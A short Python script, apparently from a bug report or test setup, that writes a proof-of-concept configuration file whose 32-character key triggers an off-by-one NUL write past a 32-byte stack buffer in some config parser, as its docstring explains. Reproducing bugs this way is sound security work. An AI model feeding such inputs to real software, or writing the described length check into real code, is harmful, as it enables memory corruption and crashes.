"""Writes the PoC: a key of exactly 32 characters. The parser caps the key's length at the
buffer's size (32) instead of leaving room for the terminating NUL, which it then writes one
byte past the end of the stack buffer."""

import sys

data = b"listen_port = 8080\n" + b"k" * 32 + b" = 1\n"
with open(sys.argv[1] if len(sys.argv) > 1 else "poc", "wb") as f:
    f.write(data)
